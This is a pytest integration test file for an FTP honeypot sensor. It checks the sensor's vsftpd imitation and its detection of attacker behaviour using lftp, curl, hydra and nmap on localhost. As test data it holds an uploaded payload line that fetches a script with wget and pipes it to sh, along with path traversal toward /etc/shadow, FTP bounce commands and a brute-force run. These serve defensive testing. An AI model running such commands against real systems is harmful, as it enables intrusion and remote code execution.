"""The FTP sensor against real clients (lftp, curl, hydra, nmap) on 127.0.0.1.

Each test runs the sensor on port 0 with an in-memory bus and asserts on the published events,
on the shared fake host (what the SSH shell would show) and on what the clients saw.
"""

from __future__ import annotations

import asyncio
import hashlib
import re
import socket
import subprocess
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from phantomnet.bus.memory import MemoryBus
from phantomnet.deception.host import FakeHost
from phantomnet.deception.shell import run_command
from phantomnet.detection.brute_force import BruteForce, BruteForceConfig
from phantomnet.detection.config import DetectorConfig
from phantomnet.detection.engine import DetectorEngine
from phantomnet.detection.ftp_traversal import FtpTraversal
from phantomnet.events import AuthAttempt, CommandInput, Detection, FileUpload
from phantomnet.sensors.base import SensorContext
from phantomnet.sensors.ftp.sensor import FtpConfig, FtpSensor
from tests.conftest import require_tool
from tests.integration.sensors.probe import DoorProbe

pytestmark = pytest.mark.integration


class Running(DoorProbe[FtpSensor]):
    @property
    def host(self) -> FakeHost:
        return self.sensor.host


@pytest.fixture
async def ftp(tmp_path: Path) -> AsyncIterator[Running]:
    bus = MemoryBus()
    ctx = SensorContext(node="test", bus=bus, data_dir=tmp_path)
    sensor = FtpSensor(FtpConfig(host="127.0.0.1", port=0, failed_login_delay_s=0.05), ctx)
    await sensor.start()
    task = asyncio.create_task(sensor.run())
    yield Running(sensor, bus)
    await sensor.stop()
    task.cancel()


async def run(*cmd: str, timeout: float = 60) -> subprocess.CompletedProcess[str]:
    return await asyncio.to_thread(
        subprocess.run, list(cmd), capture_output=True, text=True, timeout=timeout
    )


async def test_lftp_anonymous_upload_lands_in_the_fake_host(ftp: Running, tmp_path: Path) -> None:
    require_tool("lftp")
    payload = tmp_path / "payload.sh"
    payload.write_bytes(b"#!/bin/sh\nwget http://203.0.113.5/x -O- | sh\n")
    script = (
        f"set ftp:passive-mode on; set net:max-retries 1; set net:timeout 10; "
        f"quote SYST; quote FEAT; cd incoming; put {payload} -o up.sh; ls; bye"
    )
    result = await run(
        "lftp", "-u", "anonymous,probe@example.org", "-p", str(ftp.port), "-e", script, "127.0.0.1"
    )
    assert result.returncode == 0, result.stderr
    assert "215 UNIX Type: L8" in result.stdout
    assert "up.sh" in result.stdout
    upload = (await ftp.events(FileUpload))[0]
    digest = hashlib.sha256(payload.read_bytes()).hexdigest()
    assert (upload.sha256, upload.size, upload.protocol) == (digest, payload.stat().st_size, "ftp")
    # the same attacker sees the file from the SSH shell of the same fake host
    shown = await run_command(
        "sha256sum /srv/ftp/incoming/up.sh", ftp.host, "127.0.0.1", user="root"
    )
    assert shown.output.split()[0].decode() == digest
    auth = (await ftp.events(AuthAttempt))[0]
    assert auth.method == "anonymous" and auth.accepted


async def test_curl_passive_and_active_listing_and_download(ftp: Running) -> None:
    require_tool("curl")
    passive = await run("curl", "-sS", "--max-time", "20", f"ftp://127.0.0.1:{ftp.port}/")
    assert passive.returncode == 0, passive.stderr
    assert "incoming" in passive.stdout and passive.stdout.startswith("d")
    active = await run(
        "curl", "-sS", "--max-time", "20", "--ftp-port", "127.0.0.1", f"ftp://127.0.0.1:{ftp.port}/"
    )
    assert active.returncode == 0, active.stderr
    assert "incoming" in active.stdout
    commands = [e.command for e in await ftp.events(CommandInput, 10)]
    assert any(c.startswith("EPSV") or c.startswith("PASV") for c in commands)
    assert any(c.startswith("EPRT") or c.startswith("PORT") for c in commands)


async def test_user_login_sees_persona_files_and_traversal_is_confined(ftp: Running) -> None:
    require_tool("curl")
    passwd = await run(
        "curl",
        "-sS",
        "--max-time",
        "20",
        "-u",
        "root:123456",
        f"ftp://127.0.0.1:{ftp.port}/%2Fetc/passwd",
    )
    assert passwd.returncode == 0, passwd.stderr
    shell = await run_command("cat /etc/passwd", ftp.host, "127.0.0.1", user="root")
    assert passwd.stdout.encode() == shell.stdout
    escape = await run(
        "curl",
        "-sS",
        "--max-time",
        "20",
        "--path-as-is",
        f"ftp://127.0.0.1:{ftp.port}/../../../etc/shadow",
    )
    assert escape.returncode != 0  # anonymous is chrooted in /srv/ftp: no /etc there
    await ftp.settle()
    # The door reports facts only; the ftp_traversal rule is a detector over them.
    assert not [e for e in ftp.seen if isinstance(e, Detection)]
    engine = DetectorEngine(ftp.bus, [FtpTraversal(DetectorConfig(), "test")])
    found = [d for e in ftp.seen for d in engine.observe(e)]
    [det] = found  # once per session, though curl climbs with several CWD ..
    assert det.rule == "ftp_traversal" and det.protocol == "ftp"
    assert det.src is not None and det.src.ip == "127.0.0.1"
    [cited] = [e for e in ftp.seen if det.evidence == (f"event:{e.event_id}",)]
    assert isinstance(cited, CommandInput) and ".." in str(cited.command)


async def test_vsftpd_wording(ftp: Running) -> None:
    reader, writer = await asyncio.open_connection("127.0.0.1", ftp.port)
    banner = await reader.readline()
    assert banner == b"220 (vsFTPd 3.0.3)\r\n"
    writer.write(b"PASS x\r\nLIST\r\nFOO\r\nUSER root\r\nPASS wrong\r\nHELP\r\nQUIT\r\n")
    data = (await asyncio.wait_for(reader.read(), 60)).decode().splitlines()
    assert data[:5] == [
        "503 Login with USER first.",
        "530 Please login with USER and PASS.",
        "500 Unknown command.",
        "331 Please specify the password.",
        "530 Login incorrect.",
    ]
    assert data[5] == "214-The following commands are recognized." and data[-1] == "221 Goodbye."
    writer.close()


async def test_ftp_bounce_is_refused(ftp: Running) -> None:
    reader, writer = await asyncio.open_connection("127.0.0.1", ftp.port)
    await reader.readline()
    writer.write(
        b"USER anonymous\r\nPASS a@b\r\nPORT 192,0,2,1,0,80\r\nEPRT |1|198.51.100.7|8080|\r\nQUIT\r\n"
    )
    lines = (await asyncio.wait_for(reader.read(), 60)).decode().splitlines()
    assert "500 Illegal PORT command." in lines and "500 Bad EPRT command." in lines
    writer.close()


async def test_hydra_brute_force_is_detected(ftp: Running, tmp_path: Path) -> None:
    require_tool("hydra")
    users, words = tmp_path / "u.txt", tmp_path / "p.txt"
    users.write_text("admin\n")
    words.write_text("".join(f"guess{i}\n" for i in range(12)))
    result = await run(
        "hydra",
        "-L",
        str(users),
        "-P",
        str(words),
        "-t",
        "4",
        "-w",
        "5",
        "-f",
        "-s",
        str(ftp.port),
        "127.0.0.1",
        "ftp",
        timeout=120,
    )
    assert "0 valid password" in result.stdout or "valid password" not in result.stdout
    await ftp.settle()
    detector = BruteForce(BruteForceConfig(threshold=10, window_s=300), "test")
    failures = [e for e in ftp.seen if isinstance(e, AuthAttempt) and not e.accepted]
    assert len(failures) >= 12
    found = [d for e in failures for d in detector.observe(e)]
    assert found and found[0].protocol == "ftp" and found[0].src.ip == "127.0.0.1"


async def test_nmap_identifies_vsftpd(ftp: Running) -> None:
    require_tool("nmap")
    result = await run("nmap", "-Pn", "-n", "-sV", "-p", str(ftp.port), "127.0.0.1", timeout=120)
    assert "vsftpd 3.0.3" in result.stdout, result.stdout


def _abort_dialogue(port: int, urgent: bool) -> bytes:
    """Log in, then ABOR the way BSD ftp/lftp do: IAC IP, then the Synch (IAC DM), its last
    byte sent as TCP urgent data when ``urgent``."""
    import socket

    with socket.create_connection(("127.0.0.1", port), timeout=20) as s:
        f = s.makefile("rb")
        got = f.readline()
        s.sendall(b"USER anonymous\r\nPASS a@b.c\r\n")
        got += f.readline() + f.readline()
        if urgent:
            s.sendall(b"\xff\xf4\xff")
            s.send(b"\xf2", socket.MSG_OOB)
            s.sendall(b"ABOR\r\n")
        else:
            s.sendall(b"\xff\xf4\xff\xf2ABOR\r\n")
        got += f.readline()
        s.sendall(b"USER \xff\xfe\r\nQUIT\r\n")
        got += f.readline() + f.readline()
    return got


@pytest.mark.parametrize("urgent", [False, True])
async def test_telnet_ip_synch_before_abor_is_handled_like_vsftpd(
    ftp: Running, urgent: bool
) -> None:
    got = await asyncio.to_thread(_abort_dialogue, ftp.port, urgent)
    lines = got.decode("utf-8", "replace").split("\r\n")
    assert lines[3] == "225 No transfer to ABOR.", lines
    assert lines[-2] == "221 Goodbye.", lines
    commands = [e.command for e in await ftp.events(CommandInput, 5)]
    assert "ABOR" in commands and "USER \\xff\\xfe" in commands, commands


def _store_odd_name(port: int) -> bytes:
    """STOR a file whose name is not UTF-8 through PASV, then list it."""
    import re
    import socket

    with socket.create_connection(("127.0.0.1", port), timeout=20) as s:
        f = s.makefile("rb")
        f.readline()
        s.sendall(b"USER anonymous\r\nPASS a@b.c\r\nCWD incoming\r\nPASV\r\n")
        got = b""
        while not (m := re.search(rb"\((\d+),(\d+),(\d+),(\d+),(\d+),(\d+)\)", got)):
            got += f.readline()
        with socket.create_connection(("127.0.0.1", int(m[5]) * 256 + int(m[6])), 20) as d:
            s.sendall(b"STOR a\xff\xfe.bin\r\n")
            assert f.readline().startswith(b"150 ")
            d.sendall(b"payload")
        got = f.readline()
        s.sendall(b"QUIT\r\n")
        return got + f.readline()


async def test_a_name_that_is_not_utf8_is_stored_not_fatal(ftp: Running) -> None:
    got = await asyncio.to_thread(_store_odd_name, ftp.port)
    assert got.startswith(b"226 Transfer complete.\r\n221 Goodbye."), got
    (upload,) = await ftp.events(FileUpload)
    assert upload.filename.endswith("a\\xff\\xfe.bin")
    listing = ftp.host.fs("127.0.0.1").listdir("/srv/ftp/incoming")
    assert any("a\\xff\\xfe.bin" in str(n) for n in listing), listing


# -- ABOR during a transfer (vsftpd 3.0.3: 426 then 226) -------------------------------
URGENT_ABOR = b"\xff\xf4\xff\xf2ABOR\r\n"  # IAC IP IAC DM ABOR (RFC 959 4.1.3)


def _upload(port: int, during: bytes, urgent: bool) -> tuple[list[bytes], list[bytes]]:
    """Start a STOR, send part of the body, then ``during`` on the control connection
    (the data connection still open); returns (replies until NOOP's, replies after close)."""
    with socket.create_connection(("127.0.0.1", port), timeout=20) as s:
        f = s.makefile("rb")
        f.readline()
        s.sendall(b"USER anonymous\r\nPASS a@b.c\r\nCWD incoming\r\nPASV\r\n")
        got = b""
        while not (m := re.search(rb"\((\d+),(\d+),(\d+),(\d+),(\d+),(\d+)\)", got)):
            got += f.readline()
        with socket.create_connection(("127.0.0.1", int(m[5]) * 256 + int(m[6])), 20) as d:
            s.sendall(b"STOR big.bin\r\n")
            assert f.readline() == b"150 Ok to send data.\r\n"
            d.sendall(b"x" * 5000)
            if urgent:
                s.send(URGENT_ABOR[:1], socket.MSG_OOB)
                s.sendall(URGENT_ABOR[1:])
            else:
                s.sendall(during)
            if during.endswith(b"ABOR\r\n"):
                first = [f.readline(), f.readline()]
                s.sendall(b"NOOP\r\n")
                return first, [f.readline()]
            s.sendall(b"NOOP\r\n")  # read by the watcher too: kept in order
            d.sendall(b"y" * 100)
        after = [f.readline(), f.readline(), f.readline()]
        return [], after


@pytest.mark.parametrize("urgent", [False, True])
async def test_abor_during_an_upload_is_426_then_226(ftp: Running, urgent: bool) -> None:
    first, after = await asyncio.to_thread(_upload, ftp.port, b"ABOR\r\n", urgent)
    assert first == [b"426 Failure writing network stream.\r\n", b"226 ABOR successful.\r\n"]
    assert after == [b"200 NOOP ok.\r\n"]  # the control connection goes on
    (upload,) = await ftp.events(FileUpload)
    assert upload.truncated and upload.size <= 5000  # what arrived before ABOR is kept
    commands = [e.command for e in await ftp.events(CommandInput, 7)]
    assert commands[-2:] == ["ABOR", "NOOP"], commands


async def test_a_command_during_an_upload_waits_for_it(ftp: Running) -> None:
    _, after = await asyncio.to_thread(_upload, ftp.port, b"SYST\r\n", False)
    assert after == [b"226 Transfer complete.\r\n", b"215 UNIX Type: L8\r\n", b"200 NOOP ok.\r\n"]
    (upload,) = await ftp.events(FileUpload)
    assert (upload.size, upload.truncated) == (5100, False)
